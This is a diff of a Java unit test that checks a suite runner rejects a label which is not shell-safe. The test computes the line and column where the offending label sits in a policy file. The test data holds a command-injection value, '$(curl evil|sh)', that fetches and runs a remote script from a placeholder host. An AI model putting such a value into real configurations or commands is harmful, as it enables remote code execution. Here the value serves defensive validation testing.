@@ -143,7 +143,11 @@ class PlanSuiteAndFileRunCommandTest {
         "tests/e2e/test_lora.py", "--github-output", output.toString());
     assertThat(r.code()).isEqualTo(1);
     assertThat(r.out()).isEmpty();
-    assertThat(r.err()).isEqualTo("::error file=" + Console.escapeProperty(file.toString()) + ",line=138,col=37,"
+    String before = policy.substring(0, policy.indexOf("\"$(curl evil|sh)\""));
+    int line = before.split("\n", -1).length;
+    int col = before.length() - before.lastIndexOf('\n');
+    assertThat(r.err()).isEqualTo("::error file=" + Console.escapeProperty(file.toString()) + ",line=" + line
+        + ",col=" + col + ","
         + "title=suites::runner label '$(curl evil|sh)' is not shell-safe; expected 1 to 64 characters matching"
         + " [A-Za-z0-9][A-Za-z0-9._-]{0,63}\n");
     assertThat(output).doesNotExist();
